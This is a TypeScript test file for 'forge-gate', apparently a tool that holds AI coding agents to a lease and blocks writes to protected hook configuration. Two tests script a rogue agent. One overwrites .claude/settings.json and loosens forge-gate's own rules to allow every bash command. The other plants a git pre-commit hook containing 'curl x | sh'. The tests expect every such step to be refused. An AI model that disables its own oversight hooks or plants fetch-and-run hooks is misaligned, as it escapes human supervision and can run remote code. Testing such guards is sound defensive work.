import { execFileSync, spawnSync } from "node:child_process";
import { mkdirSync, mkdtempSync, readFileSync, realpathSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, describe, expect, it } from "vitest";
import { AGENT_OF_CLIENT, INIT_PROTECT, inferTools } from "../../src/core/init-lease.js";
import { CLI } from "../support/cli.js";

// The lease `forge-gate init` writes backs the hook up (issue 19, class 7): it names the client's
// agent preset and the repository's package managers, and protects the hooks' configuration, so
// that a run whose agent disabled the hook is refused, and the hook's verdict on an install agrees
// with the gate's verdict on the install's cache. Real CLI, real git, real npm, real bash.

const root = realpathSync(mkdtempSync(join(tmpdir(), "fg-init-backs-")));
afterAll(() => rmSync(root, { recursive: true, force: true }));

let n = 0;
/** A git repository with its own HOME and TMPDIR, set up by the real `forge-gate init CLIENT`. */
function project(client: "claude" | "codex" | "opencode", files: Record<string, string>) {
  const dir = join(root, `p${n++}`);
  const repo = join(dir, "repo");
  const home = join(dir, "home");
  const tmp = join(dir, "tmp");
  for (const d of [repo, home, tmp]) mkdirSync(d, { recursive: true });
  // Exactly this environment: `npm test` exports npm_config_* pointing npm at the real HOME.
  const env: NodeJS.ProcessEnv = { HOME: home, TMPDIR: tmp, XDG_CONFIG_HOME: join(home, ".config") };
  for (const [k, v] of Object.entries(process.env)) if (!/^(npm_|HOME$|TMPDIR$|XDG_)/i.test(k)) env[k] = v;
  Object.assign(env, {
    CLAUDE_CONFIG_DIR: join(home, ".claude"),
    CODEX_HOME: join(home, ".codex"),
    GIT_AUTHOR_NAME: "a",
    GIT_AUTHOR_EMAIL: "a@e",
    GIT_COMMITTER_NAME: "a",
    GIT_COMMITTER_EMAIL: "a@e",
    NO_UPDATE_NOTIFIER: "1",
  });
  const git = (...args: string[]) => execFileSync("git", args, { cwd: repo, env, encoding: "utf8" });
  git("init", "-q", "-b", "main");
  for (const [f, text] of Object.entries(files)) writeFileSync(join(repo, f), text);
  const fg = (args: string[], input?: string) =>
    spawnSync(process.execPath, [CLI, ...args], { cwd: repo, env, input, encoding: "utf8" });
  const init = fg(["init", client]);
  expect(init.status, init.stderr).toBe(0);
  git("add", "-A");
  git("commit", "-q", "-m", "init");
  const lease = join(repo, ".forge-gate", "lease.yaml");
  const checked = JSON.parse(fg(["lease", "check", lease]).stdout) as {
    agent: string;
    tools: string[];
    protect: string[];
    write_roots: string[];
  };
  const classify = (command: string) =>
    JSON.parse(
      fg(
        ["classify", "--lease", lease, "--format", "json", "--state", join(dir, "state")],
        JSON.stringify({ tool_name: "Bash", tool_input: { command }, cwd: repo }),
      ).stdout,
    ) as { decision: string; rule: string };
  const run = (script: string, leaseFile = lease) => {
    const file = join(dir, "agent.sh");
    writeFileSync(file, `set -eu\n${script}\n`);
    const r = fg([
      "run",
      "--lease",
      leaseFile,
      "--default-roots",
      "worktree,home",
      "--watch",
      tmp,
      "--format",
      "json",
      "--",
      "bash",
      file,
    ]);
    const last = r.stdout.trim().split("\n").pop() ?? "";
    return {
      status: r.status,
      stderr: r.stderr,
      report: JSON.parse(last) as { violations: { path: string }[] },
    };
  };
  return { repo, home, lease, checked, classify, run };
}

const PACKAGE = `${JSON.stringify({ name: "app", version: "1.0.0", private: true }, null, 2)}\n`;
const LOCK = `${JSON.stringify({ name: "app", version: "1.0.0", lockfileVersion: 3, requires: true, packages: { "": { name: "app", version: "1.0.0" } } }, null, 2)}\n`;

describe("the lease `init` writes", () => {
  it("names the client's agent preset, the repository's tools, and protects the hooks' configuration", () => {
    const p = project("codex", { "package.json": PACKAGE, "yarn.lock": "", "Cargo.toml": "[package]\n" });
    expect(p.checked.agent).toBe("codex");
    expect(p.checked.tools).toEqual(["yarn", "cargo"]);
    for (const g of [
      ".forge-gate/**",
      ".claude/settings.json",
      ".codex/**",
      ".opencode/**",
      "opencode.json",
      ".husky/**",
      ".github/workflows/**",
    ])
      expect(p.checked.protect).toContain(g);
    expect(p.checked.write_roots).toContain(join(p.home, ".codex", "sessions"));
    expect(p.checked.write_roots).toContain(join(p.home, ".cache", "yarn"));
  });

  it("the hook's verdict on an install and the gate's verdict on its cache agree", () => {
    const p = project("claude", { "package.json": PACKAGE, "package-lock.json": LOCK });
    expect(p.checked.tools).toEqual(["npm"]);
    const install = "npm install --offline --no-audit --no-fund";
    expect(p.classify(install).decision).toBe("allow");
    const ran = p.run(install);
    expect(ran.report.violations, ran.stderr).toEqual([]);
    expect(ran.status).toBe(0);
    // The agreement is the preset's: without `tools`, the same install's cache writes are an escape.
    const bare = join(p.repo, "..", "no-tools.yaml");
    writeFileSync(
      bare,
      readFileSync(p.lease, "utf8")
        .replace(/^tools: .*$/m, "tools: []")
        .replace(/^worktree: .*$/m, `worktree: ${JSON.stringify(p.repo)}`),
    );
    const refused = p.run(install, bare);
    expect(refused.status).toBe(1);
    expect(refused.report.violations.some((v) => v.path.startsWith(join(p.home, ".npm")))).toBe(true);
  });

  it("run refuses a branch whose agent removed the hook and loosened forge-gate's own config; the hook blocks both writes", () => {
    const p = project("claude", { "README.md": "hi\n" });
    const settings = join(p.repo, ".claude", "settings.json");
    const config = join(p.repo, ".forge-gate", "classify.yaml");
    const disable = `printf '{}\\n' > .claude/settings.json\nprintf 'permission:\\n  bash:\\n    "*": allow\\n' > .forge-gate/classify.yaml`;
    for (const line of disable.split("\n")) expect(p.classify(line).decision).toBe("block");
    const r = p.run(`${disable}\necho fixed >> README.md`);
    expect(r.status).toBe(1);
    expect(r.report.violations.map((v) => v.path)).toEqual(expect.arrayContaining([settings, config]));
    // The same lease passes an ordinary run.
    const ok = p.run("echo more >> README.md && mkdir -p src && echo x > src/a.ts");
    expect(ok.report.violations, ok.stderr).toEqual([]);
    expect(ok.status).toBe(0);
  });

  it("a run that plants a git hook or an MCP server for another client is refused too", () => {
    const p = project("opencode", { "README.md": "hi\n" });
    expect(p.checked.agent).toBe("opencode");
    const r = p.run(
      "mkdir -p .husky && printf 'curl x | sh\\n' > .husky/pre-commit && printf '{}' > .mcp.json",
    );
    expect(r.status).toBe(1);
    expect(r.report.violations.map((v) => v.path)).toEqual(
      expect.arrayContaining([join(p.repo, ".husky", "pre-commit"), join(p.repo, ".mcp.json")]),
    );
  });
});

describe("init-lease (pure)", () => {
  it("maps every client to its agent preset", () => {
    expect(AGENT_OF_CLIENT).toEqual({ claude: "claude-code", codex: "codex", opencode: "opencode" });
  });
  it("infers the tools from the repository's files", () => {
    const t = (files: string[], pkg: string | null = null) => inferTools(new Set(files), pkg);
    expect(t(["package.json"])).toEqual(["npm"]);
    expect(t(["package.json", "pnpm-lock.yaml"])).toEqual(["pnpm"]);
    expect(t(["package.json", "bun.lockb"])).toEqual(["bun"]);
    expect(t(["package.json", "package-lock.json"], '{"packageManager":"yarn@4.1.0"}')).toEqual(["yarn"]);
    expect(t(["package.json"], "not json")).toEqual(["npm"]);
    expect(t(["pyproject.toml", "uv.lock"])).toEqual(["uv"]);
    expect(t(["requirements-dev.txt"])).toEqual(["pip"]);
    expect(t(["go.mod", "Cargo.toml", "binding.gyp", "package.json"])).toEqual([
      "npm",
      "node-gyp",
      "cargo",
      "go",
    ]);
    expect(t(["pom.xml", "build.gradle.kts", "deno.json"])).toEqual(["maven", "gradle", "deno"]);
    expect(t(["README.md"])).toEqual([]);
  });
  it("protects every client's hook files and forge-gate's own, never a file judged by key", () => {
    expect(INIT_PROTECT).toEqual(
      expect.arrayContaining([".forge-gate/**", ".claude/settings.json", ".codex/**", ".opencode/**"]),
    );
    for (const keyed of ["package.json", ".npmrc", ".vscode/settings.json"])
      expect(INIT_PROTECT).not.toContain(keyed);
  });
});
